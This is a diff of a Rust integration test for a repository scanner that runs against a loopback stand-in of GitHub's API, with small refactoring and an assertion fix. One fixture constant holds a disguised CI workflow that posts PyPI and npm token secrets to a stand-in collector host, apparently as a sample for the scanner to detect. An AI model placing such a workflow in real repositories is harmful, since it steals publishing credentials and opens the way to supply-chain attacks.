@@ -1,23 +1,13 @@
 //! `portcullis scan github:OWNER`: a stand-in of GitHub's API and its repositories on loopback, with pages, limits and faults.
 
-#![allow(
-    clippy::unwrap_used,
-    clippy::indexing_slicing,
-    clippy::string_slice,
-    clippy::panic,
-    reason = "a test fails by panicking"
-)]
-
-mod stand_in;
-
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::Path;
 use std::process::{Command, Output};
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 
+use crate::stand_in::{Answer, Request, StandIn, git};
 use serde_json::{Value, json};
-use stand_in::{Answer, Request, StandIn, git};
 
 const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";
 const BENIGN: &str =
@@ -164,7 +154,7 @@ fn archived_and_forked_and_empty_repositories_have_their_place() {
     assert_eq!(given(&found, "finding").len(), 3);
     assert_eq!(given(&found, "problem"), BTreeSet::from([String::from("github:example-org/gone")]));
     assert!(!complete(&found));
-    assert_eq!(found["stats"][0]["stats"]["repositories"], 5, "{:?}", found["stats"]);
+    assert_eq!(found["stats"][0]["repositories"], 5, "{:?}", found["stats"]);
     let found = lines(&scan(&server, &["--skip-forks", "--skip-archived", "github:example-org"]));
     assert_eq!(given(&found, "finding"), BTreeSet::from([String::from("github:example-org/plain")]));
 }
